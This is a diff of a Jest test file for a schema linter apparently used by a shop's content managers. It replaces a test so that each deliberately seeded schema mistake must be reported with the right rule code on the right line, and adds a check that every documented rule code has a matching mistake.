-    return batch.map((mistake) => {
-      const [name, file, , , words] = mistake
-      const found = problems.filter(
-        (problem) => problem.file === `schema/${file}` && plain(`${problem.message} ${problem.hint}`).includes(words),
-      )
-      const line = damaged(mistake).split(MARK)[0]?.split('\n').length
-      return { name, isTold: found.length > 0, isPlaced: found.some((problem) => problem.line === line) }
-    })
-  })
-  const silent = results.flatMap(({ name, isTold }) => (isTold ? [] : [name]))
-  const misplaced = results.flatMap(({ name, isTold, isPlaced }) => (isTold && !isPlaced ? [name] : []))
-  expect({ silent, misplaced }).toEqual({ silent: [], misplaced: [] })
-  expect(results.length).toBeGreaterThanOrEqual(77)
-}, 120_000)
 
 test('the files of the shop without a mistake have no problem', () => {
   expect(problemsWith([]).map(({ file, line, message }) => `${file}:${line} ${message}`)).toEqual([])
 }, 120_000)
+
+test('a mistake of a content manager is reported, on its line', () => {
+  const failed = batches().flatMap((batch) => {
+    const problems = problemsWith(batch)
+    return batch.flatMap(({ name, file, code, elsewhere, damaged }) => {
+      const here = problems.filter((problem) => problem.file === `schema/${elsewhere ?? file}`)
+      const line = elsewhere === undefined ? damaged.split(MARK)[0]?.split('\n').length : undefined
+      const isRight =
+        code === 'верно'
+          ? here.length === 0
+          : here.some((problem) => problem.rule === code && (line === undefined || problem.line === line))
+      const reported = here.map((problem) => `${problem.line} ${problem.rule} ${problem.message}`)
+      return isRight ? [] : [`${name}\n${line ?? ''}: ${reported.join('; ')}`]
+    })
+  })
+  expect(failed).toEqual([])
+}, 240_000)
+
+test('each code of a problem has a mistake, and each mistake a code that the documentation lists', () => {
+  const listed = ruleMetas(shopLanguage.rules).flatMap(({ codes }) => codes)
+  const own = new Set(mistakes.flatMap(({ code }) => (code === 'верно' ? [] : [code])))
+  const needed = new Set(listed.filter((code) => !OTHER_CODES.test(code)))
+  expect([...own].sort()).toEqual([...needed].sort())
+})
